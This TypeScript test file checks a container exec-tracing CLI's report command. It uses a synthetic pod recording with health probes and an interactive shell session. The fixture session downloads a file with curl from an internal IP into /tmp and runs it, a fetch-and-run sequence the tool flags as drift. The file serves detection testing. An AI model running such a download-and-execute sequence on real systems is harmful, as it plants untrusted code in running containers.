/**
 * Sessions and probes in `report`, the built CLI as a user runs it: a recording with the workload's
 * children, a probe every second and an exec session (a shell on pts/0 that drops and runs a file
 * from the writable layer) → --sessions and --no-probes keep what they say (exit lines by their
 * process's exec line), -o summary and -o markdown carry the session's transcript, and the
 * timeline a session track.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import { afterAll, describe, expect, it } from 'vitest';
import { formatJsonLine } from '../../src/output/json.js';
import { CONTAINER_ID, T0, podEvent } from '../../src/output/fixtures.test-helpers.js';
import { CLI } from '../support/cli.js';
import { removeTempDirs, tempDir } from '../support/tmp.js';
import { traceEventProblems } from '../support/trace-events.js';

afterAll(removeTempDirs);
const dir = tempDir('trace-exec-sessions-report-');
const at = (s: number) => T0 + s * 1000;
const pod = { namespace: 'shop', pod: 'web-7d9c8b6f5-x2k4p', container: 'web', workload: 'deploy/web', image: 'nginx:1.27' };
const line = (
  pid: number,
  s: number,
  args: string[],
  entry: 'init' | 'exec' | 'probe',
  leader: number,
  more: Record<string, unknown> = {},
) =>
  formatJsonLine(
    podEvent(
      {
        pid,
        timeMs: at(s),
        args,
        comm: args[0]!.split('/').pop()!,
        filename: args[0]!,
        sessionLeaderPid: leader,
        inInitTree: entry === 'init',
        tty: entry === 'exec' ? 'pts/0' : null,
        cwd: '/',
        ...more,
      },
      { ...pod, entry },
    ),
  );
const exit = (pid: number, s: number, comm: string, exitCode: number) =>
  JSON.stringify({
    type: 'exit',
    time: new Date(at(s)).toISOString(),
    node: 'worker-1',
    namespace: 'shop',
    pod: pod.pod,
    container: 'web',
    containerId: CONTAINER_ID,
    pid,
    comm,
    exitCode,
    signal: null,
    durationMs: 5,
  });

const RECORDING =
  [
    line(10, 0, ['/bin/echo', 'tick'], 'init', 1),
    line(50, 1, ['cat', '/tmp/healthy'], 'probe', 50),
    exit(50, 1.01, 'cat', 0),
    line(100, 2, ['sh'], 'exec', 100),
    line(101, 3, ['/usr/bin/curl', '-so', '/tmp/m', 'http://10.0.0.9/m'], 'exec', 100),
    line(51, 3.5, ['cat', '/tmp/healthy'], 'probe', 51),
    line(102, 4, ['/tmp/m', '--quiet'], 'exec', 100, { upperLayer: true, cwd: '/tmp' }),
    exit(102, 5, 'm', 1),
    exit(100, 6, 'sh', 0),
    line(11, 7, ['/bin/echo', 'tick'], 'init', 1),
  ].join('\n') + '\n';
const file = join(dir, 'execs.jsonl');
writeFileSync(file, RECORDING);

async function report(args: string[]) {
  const r = await execa(process.execPath, [CLI, 'report', file, ...args], { reject: false, env: { FORCE_COLOR: '0' } });
  expect(r.exitCode, r.stderr).toBe(0);
  return r.stdout;
}

describe('report with sessions and probes', () => {
  it('-o summary: the transcript of the session, the one that ran drift first', async () => {
    const out = await report([]);
    const at = out.indexOf('Exec sessions (1;');
    expect(at, out).toBeGreaterThan(0);
    expect(out.slice(at).split('\n').slice(0, 5)).toEqual([
      'Exec sessions (1; those that ran a file from the writable layer first):',
      '  shop/web-7d9c8b6f5-x2k4p web (deploy/web): pid 100, pts/0, uid 0; started 11:41:18, ended 11:41:22, exit 0 [drift]',
      '    11:41:18  sh',
      '    11:41:19  /usr/bin/curl -so /tmp/m http://10.0.0.9/m',
      '    11:41:20  [drift] /tmp/m --quiet',
    ]);
  });

  it('--sessions: only the session’s execs and their processes’ ends; --no-probes: everything but the probes', async () => {
    const sessions = await report(['--sessions', '-o', 'markdown']);
    expect(sessions).toMatch(/Recorded in `[^`]+`: 7 execs, 3 of them kept by the filters, 3 exits\./);
    const noProbes = await report(['--no-probes', '-o', 'markdown']);
    expect(noProbes).toMatch(/7 execs, 5 of them kept by the filters/);
    expect(noProbes).toContain('### Exec sessions');
    expect(noProbes).toContain('| 11:41:20 | **drift** `/tmp/m --quiet` | ran | `/tmp` |');
    // The probe's end is left out with it: only the session's processes ended badly or not.
    expect(noProbes).toMatch(/of 2 that ended/);
  });

  it('--timeline-to: a track group for the session, its commands in order', async () => {
    const tl = join(dir, 'timeline.json');
    await report(['--timeline-to', tl]);
    const file = JSON.parse(readFileSync(tl, 'utf8')) as { traceEvents: { name: string; cat?: string; args?: Record<string, unknown> }[] };
    expect(traceEventProblems(file)).toEqual([]);
    expect(file.traceEvents.filter((e) => e.cat === 'session,command').map((e) => e.name)).toEqual([
      'sh',
      '/usr/bin/curl -so /tmp/m http://10.0.0.9/m',
      '/tmp/m --quiet',
    ]);
    expect(file.traceEvents.find((e) => e.cat === 'session')?.args).toMatchObject({
      pid: 100,
      tty: 'pts/0',
      workload: 'deploy/web',
      drift: true,
      exit: { exitCode: 0, signal: null },
    });
  });
});
